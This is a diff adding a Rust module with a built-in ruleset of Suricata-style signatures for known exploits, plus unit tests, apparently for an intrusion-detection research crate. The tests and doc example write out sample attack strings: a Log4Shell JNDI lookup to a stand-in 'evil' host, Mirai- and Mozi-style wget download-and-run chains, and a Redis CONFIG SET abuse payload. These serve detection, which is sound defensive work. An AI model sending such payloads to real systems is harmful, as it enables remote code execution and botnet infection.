@@ -1,0 +1,202 @@
+//! The built-in vetted ruleset.
+//!
+//! The paper filtered Suricata's 32K rules down to a manually verified
+//! subset that only fires on payloads which bypass authority or alter
+//! service state (§3.2), published as a Pastebin dump. This module is the
+//! equivalent artifact for our exploit corpus: every rule is written in the
+//! crate's rule language, parsed at construction (so a typo fails tests,
+//! not detection), and covers one real attack family that the simulated
+//! attacker population sends.
+
+use crate::parse::parse_rule;
+use crate::rule::Rule;
+
+/// The textual source of the built-in rules, one per line.
+pub const BUILTIN_RULES: &str = r#"
+alert http any any -> any any (msg:"Log4Shell CVE-2021-44228 jndi probe"; content:"${jndi:"; nocase; classtype:web-application-attack; sid:2021001;)
+alert tcp any any -> any any (msg:"Shell download-and-execute chain"; content:"wget"; pcre:"/wget.*(\.sh|\.bin|tftp)/i"; classtype:trojan-activity; sid:2021002;)
+alert tcp any any -> any any (msg:"Shell cd /tmp staging"; content:"cd /tmp"; classtype:trojan-activity; sid:2021003;)
+alert http any any -> any any (msg:"GPON router RCE CVE-2018-10561"; content:"/GponForm/diag_Form"; classtype:web-application-attack; sid:2021004;)
+alert http any any -> any any (msg:"Netgear DGN setup.cgi RCE"; content:"/setup.cgi?next_file=netgear"; classtype:web-application-attack; sid:2021005;)
+alert http any any -> any any (msg:"PHPUnit eval-stdin RCE CVE-2017-9841"; content:"eval-stdin.php"; classtype:web-application-attack; sid:2021006;)
+alert http any any -> any any (msg:"Boaform admin login bruteforce"; content:"POST"; offset:0; depth:4; content:"/boaform/admin/formLogin"; distance:0; within:40; classtype:attempted-admin; sid:2021007;)
+alert http any any -> any any (msg:"HTTP POST user login bruteforce"; content:"POST"; offset:0; depth:4; content:"username="; classtype:attempted-user; sid:2021008;)
+alert tcp any any -> any 6379 (msg:"Redis CONFIG SET persistence abuse"; content:"CONFIG"; nocase; content:"SET"; distance:0; nocase; classtype:protocol-command-decode; sid:2021009;)
+alert tcp any any -> any any (msg:"ADB remote shell command"; content:"CNXN"; offset:0; depth:4; classtype:attempted-admin; sid:2021010;)
+alert http any any -> any any (msg:"Mozi /shell cd+tmp botnet spreader"; content:"/shell?cd+/tmp"; classtype:trojan-activity; sid:2021011;)
+alert http any any -> any any (msg:"ThinkPHP invokefunction RCE"; content:"invokefunction"; content:"call_user_func_array"; distance:0; classtype:web-application-attack; sid:2021012;)
+alert http any any -> any [7547,5555] (msg:"TR-064 NewNTPServer command injection"; content:"<NewNTPServer1>"; classtype:attempted-admin; sid:2021013;)
+alert http any any -> any any (msg:"nmap service fingerprint probe"; content:"/nice ports,/Trinity.txt.bak"; classtype:attempted-recon; sid:2021014;)
+alert tcp any any -> any any (msg:"SMB trans2 exploit attempt"; content:"|ff|SMB"; offset:4; depth:4; content:"|32|"; distance:0; within:1; classtype:trojan-activity; sid:2021015;)
+alert http any any -> any any (msg:"Hadoop YARN unauthenticated application submit"; content:"/ws/v1/cluster/apps/new-application"; classtype:web-application-attack; sid:2021016;)
+alert http any any -> any any (msg:"HTTP POST api user login bruteforce"; content:"POST"; offset:0; depth:4; content:"/api/user/login"; distance:0; within:30; classtype:attempted-user; sid:2021017;)
+alert http any any -> any any (msg:"Jaws webserver RCE shell retrieval"; content:"/shell?"; content:"busybox"; distance:0; nocase; classtype:trojan-activity; sid:2021018;)
+"#;
+
+/// A compiled set of rules, evaluated in sid order.
+#[derive(Debug, Clone)]
+pub struct RuleSet {
+    rules: Vec<Rule>,
+}
+
+impl RuleSet {
+    /// Compile the built-in vetted ruleset.
+    ///
+    /// # Example
+    ///
+    /// ```
+    /// use cw_detection::RuleSet;
+    ///
+    /// let rules = RuleSet::builtin();
+    /// let exploit = b"GET /shell?cd+/tmp;wget+http://x/Mozi.m HTTP/1.1\r\n\r\n";
+    /// assert!(rules.is_malicious(exploit, 8080));
+    /// assert!(!rules.is_malicious(b"GET / HTTP/1.1\r\n\r\n", 80));
+    /// ```
+    ///
+    /// # Panics
+    /// Panics if any built-in rule fails to parse — that is a crate bug and
+    /// the unit tests catch it.
+    pub fn builtin() -> Self {
+        Self::from_source(BUILTIN_RULES).expect("builtin ruleset must parse")
+    }
+
+    /// Compile a rule set from textual source (one rule per non-empty line;
+    /// `#` lines are comments).
+    pub fn from_source(source: &str) -> Result<Self, crate::parse::ParseError> {
+        let mut rules = Vec::new();
+        for line in source.lines() {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            rules.push(parse_rule(line)?);
+        }
+        Ok(RuleSet { rules })
+    }
+
+    /// Number of rules.
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// True when no rules are loaded.
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// All rules that fire on this payload/port.
+    pub fn matches(&self, payload: &[u8], port: u16) -> Vec<&Rule> {
+        self.rules
+            .iter()
+            .filter(|r| r.matches(payload, port))
+            .collect()
+    }
+
+    /// Does any *malicious-classtype* rule fire? (Recon rules may fire
+    /// without making the payload malicious — the paper's bar is authority
+    /// bypass or state alteration.)
+    pub fn is_malicious(&self, payload: &[u8], port: u16) -> bool {
+        self.rules
+            .iter()
+            .any(|r| r.classtype.is_malicious() && r.matches(payload, port))
+    }
+
+    /// Iterate the rules.
+    pub fn iter(&self) -> impl Iterator<Item = &Rule> {
+        self.rules.iter()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cw_protocols::http::HttpRequest;
+
+    #[test]
+    fn builtin_parses_and_is_nonempty() {
+        let rs = RuleSet::builtin();
+        assert!(rs.len() >= 15, "got {}", rs.len());
+        // All sids unique.
+        let mut sids: Vec<u32> = rs.iter().map(|r| r.sid).collect();
+        sids.sort_unstable();
+        sids.dedup();
+        assert_eq!(sids.len(), rs.len());
+    }
+
+    #[test]
+    fn log4shell_fires() {
+        let rs = RuleSet::builtin();
+        let req = HttpRequest::new("GET", "/")
+            .header("User-Agent", "${jndi:ldap://evil/a}")
+            .to_bytes();
+        assert!(rs.is_malicious(&req, 80));
+        let hits = rs.matches(&req, 80);
+        assert!(hits.iter().any(|r| r.sid == 2_021_001));
+    }
+
+    #[test]
+    fn benign_get_does_not_fire() {
+        let rs = RuleSet::builtin();
+        let req = HttpRequest::new("GET", "/")
+            .header("Host", "example")
+            .header("User-Agent", "Mozilla/5.0 zgrab/0.x")
+            .to_bytes();
+        assert!(!rs.is_malicious(&req, 80));
+        assert!(rs.matches(&req, 80).is_empty());
+    }
+
+    #[test]
+    fn shell_chain_fires_on_raw_tcp() {
+        let rs = RuleSet::builtin();
+        assert!(rs.is_malicious(b"cd /tmp; wget http://1.2.3.4/mirai.sh; sh mirai.sh", 23));
+        assert!(!rs.is_malicious(b"wget alone without the payload", 23));
+    }
+
+    #[test]
+    fn nmap_probe_fires_but_is_not_malicious() {
+        let rs = RuleSet::builtin();
+        let req = HttpRequest::new("GET", "/nice ports,/Trinity.txt.bak").to_bytes();
+        assert!(!rs.matches(&req, 80).is_empty());
+        assert!(!rs.is_malicious(&req, 80));
+    }
+
+    #[test]
+    fn redis_rule_is_port_scoped() {
+        let rs = RuleSet::builtin();
+        let payload = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$5\r\n/tmp/\r\n";
+        assert!(rs.is_malicious(payload, 6379));
+        assert!(!rs.is_malicious(payload, 80));
+    }
+
+    #[test]
+    fn post_login_bruteforce_fires() {
+        let rs = RuleSet::builtin();
+        let req = HttpRequest::new("POST", "/api/user/login")
+            .header("Host", "x")
+            .body(b"user=admin&pass=123456")
+            .to_bytes();
+        assert!(rs.is_malicious(&req, 80));
+    }
+
+    #[test]
+    fn comment_and_blank_lines_skipped() {
+        let rs = RuleSet::from_source(
+            "# comment\n\nalert tcp any any -> any any (msg:\"x\"; content:\"evil\"; classtype:bad-unknown; sid:1;)\n",
+        )
+        .unwrap();
+        assert_eq!(rs.len(), 1);
+    }
+
+    #[test]
+    fn smb_exploit_vs_plain_negotiate() {
+        let rs = RuleSet::builtin();
+        let plain = cw_protocols::smb::build_negotiate();
+        assert!(!rs.is_malicious(&plain, 445));
+        // A trans2 (0x32) command in place of negotiate (0x72) is the
+        // exploit signature.
+        let mut exploit = plain.clone();
+        assert_eq!(exploit[8], 0x72);
+        exploit[8] = 0x32;
+        assert!(rs.is_malicious(&exploit, 445));
+    }
+}
